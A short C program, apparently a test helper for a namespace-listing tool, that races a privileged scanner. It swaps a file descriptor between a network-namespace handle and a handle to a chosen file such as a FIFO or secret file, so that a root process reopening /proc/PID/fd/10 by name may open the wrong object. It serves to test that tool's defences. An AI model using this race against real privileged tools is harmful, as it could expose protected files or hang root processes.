// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * fd-flipper PATH SECONDS - what a hostile user runs against root's nsls:
 * descriptor 10 flips, as fast as dup2() goes, between a net namespace
 * that only this descriptor holds (nsfs) and an O_PATH descriptor of PATH
 * (a FIFO, a secret file). A scanner that reads /proc/PID/fd/10 as
 * "net:[N]" and then opens it by name gets PATH half of the time. Run it
 * where it may unshare a net namespace (unshare -Ur). Stops by itself
 * after SECONDS.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int ns, other;
	time_t end;

	if (argc != 3) {
		fprintf(stderr, "usage: fd-flipper PATH SECONDS\n");
		return 2;
	}
	/* a namespace no process is in, so a scanner meets it first here */
	if (unshare(CLONE_NEWNET) < 0) {
		perror("fd-flipper: unshare");
		return 1;
	}
	ns = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
	other = open(argv[1], O_PATH | O_CLOEXEC);
	if (ns < 0 || other < 0 || unshare(CLONE_NEWNET) < 0) {
		perror("fd-flipper: open");
		return 1;
	}
	end = time(NULL) + atoi(argv[2]);
	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		for (int i = 0; i < 10000; i++) {
			dup2(ns, 10);
			dup2(other, 10);
		}
	}
	return 0;
}
